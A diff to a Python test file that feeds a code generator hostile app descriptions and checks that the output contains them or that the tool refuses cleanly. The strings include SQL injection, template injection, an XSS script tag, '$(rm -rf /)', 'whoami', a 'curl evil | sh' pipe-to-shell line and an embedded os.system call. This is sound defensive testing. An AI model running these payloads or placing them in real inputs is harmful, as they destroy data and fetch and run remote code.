@@ -16,14 +16,14 @@ from tdeveloper.spec.errors import TDevError
 HOSTILE = [
     'A shop: products (name, price, note). A note may read "\'; DROP TABLE products; --" or '
     '"""triple""" quotes and \\"escapes\\".',
-    "Pets: name, species (dog, \"cat\", {{ config.__class__ }}, </script><script>alert(1)</script>), "
+    'Pets: name, species (dog, "cat", {{ config.__class__ }}, </script><script>alert(1)</script>), '
     "owner. Owners: name, email.",
     "Accounts: $(rm -rf /), `whoami`, name, class, from, select, order, user; "
     "each account belongs to a user. Users: name; && curl evil | sh",
     "{% for x in range(10**9) %}{{ x }}{% endfor %} tasks with a title",
     "Cafés: naïve name, 🐶 emoji, 2fa enabled, 3d model. Order items: quantity; "
     "an order item belongs to a café.",
-    "Tickets: title\n\"\"\"\nimport os; os.system('id')\n\"\"\"\n# comment\\\nvalue",
+    'Tickets: title\n"""\nimport os; os.system(\'id\')\n"""\n# comment\\\nvalue',
 ]
 MARKERS = ["DROP TABLE", "rm -rf", "</script>", "whoami", "os.system", "config.__class__", "curl"]
 
@@ -54,7 +54,9 @@ def test_hostile_description_is_contained(text: str) -> None:
     try:
         result = generate(text)
     except TDevError as exc:  # refusing clearly is also safe
-        assert exc.message and "\n" not in exc.message
+        refused = exc.message
+        assert refused
+        assert "\n" not in refused
         return
     project = result.state.project
     assert project is not None
